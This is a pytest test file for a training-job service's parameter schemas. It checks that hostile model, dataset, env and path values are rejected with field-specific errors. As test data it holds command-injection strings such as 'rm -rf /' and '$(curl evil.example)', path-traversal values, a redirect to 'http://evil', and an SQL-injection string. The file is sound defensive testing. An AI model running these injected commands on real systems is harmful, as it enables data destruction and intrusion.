"""What submit/download params accept: hostile model, dataset and env strings are refused with a message
naming the field; argv elements may hold anything printable (they stay argv elements)."""

from __future__ import annotations

from typing import Any

import pytest
from podium_shared.training.schemas import DownloadModelParams, SubmitTrainingJobParams
from pydantic import ValidationError

LF = {"model": "Qwen/Qwen2.5-0.5B-Instruct", "dataset": "alpaca_en_demo"}


def submit(**kw: Any) -> SubmitTrainingJobParams:
    return SubmitTrainingJobParams.model_validate({"name": "job", "llamafactory": LF, **kw})


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("model", "Qwen/x; rm -rf /"),
        ("model", "$(curl evil.example)"),
        ("model", "--config=/etc/passwd"),
        ("model", "../../etc"),
        ("model", "a\nb"),
        ("dataset", "alpaca en"),
        ("dataset", "a,,b"),
        ("dataset", "x`id`"),
        ("template", "qwen; id"),
        ("output_dir", "/etc/cron.d"),
        ("output_dir", "../escape"),
    ],
)
def test_hostile_llamafactory_strings_are_refused(field: str, value: str) -> None:
    with pytest.raises(ValidationError) as err:
        submit(llamafactory={**LF, field: value})
    assert field in str(err.value)


@pytest.mark.parametrize(
    ("extra", "needle"),
    [
        ({"name": "Bad_Name"}, "name"),
        ({"name": "x" * 41}, "name"),
        ({"image": "img; rm -rf /"}, "image"),
        ({"env": {"BAD-NAME": "x"}}, "environment variable name"),
        ({"env": {"MLFLOW_TRACKING_URI": "http://evil"}}, "set by Podium"),
        ({"env": {"HF_TOKEN": "x"}}, "set by Podium"),
        ({"env": {"OK": "line\nbreak"}}, "control characters"),
        ({"instance_type": "ml.g5 12xlarge"}, "instance_type"),
        ({"mlflow_run_name": "r"}, "mlflow_experiment"),
        ({"procs_per_node": 0}, "procs_per_node"),
        ({"hf_token": "hf_\x00"}, "non-printable"),
    ],
)
def test_bad_fields_are_refused(extra: dict[str, Any], needle: str) -> None:
    with pytest.raises(ValidationError) as err:
        submit(**extra)
    assert needle in str(err.value)


def test_exactly_one_of_settings_or_command() -> None:
    with pytest.raises(ValidationError, match="exactly one"):
        SubmitTrainingJobParams.model_validate({"name": "j"})
    with pytest.raises(ValidationError, match="exactly one"):
        SubmitTrainingJobParams.model_validate({"name": "j", "llamafactory": LF, "command": ["x"]})


def test_argv_elements_may_hold_anything_printable() -> None:
    hostile = ["python", "-c", "import os; os.system('id')", "$(whoami)", "`id`", "'; DROP TABLE x;--",
               "{{ .Values.x }}", "key: [1, 2]", "--flag=a b"]  # fmt: skip
    p = SubmitTrainingJobParams.model_validate({"name": "j", "command": hostile})
    assert p.command == hostile
    with pytest.raises(ValidationError, match="control characters"):
        SubmitTrainingJobParams.model_validate({"name": "j", "command": ["python", "a\nb"]})
    with pytest.raises(ValidationError, match="must not be empty"):
        SubmitTrainingJobParams.model_validate({"name": "j", "command": [""]})


def test_download_params() -> None:
    p = DownloadModelParams.model_validate({"model": "Qwen/Qwen3-0.6B"})
    assert (p.revision, p.namespace) == ("main", "default")
    for bad in ({"model": "/models/x"}, {"model": "a b"}, {"model": "Qwen/x", "revision": "../x"},
                {"model": "Qwen/x", "pvc": "Bad PVC"}):  # fmt: skip
        with pytest.raises(ValidationError):
            DownloadModelParams.model_validate(bad)
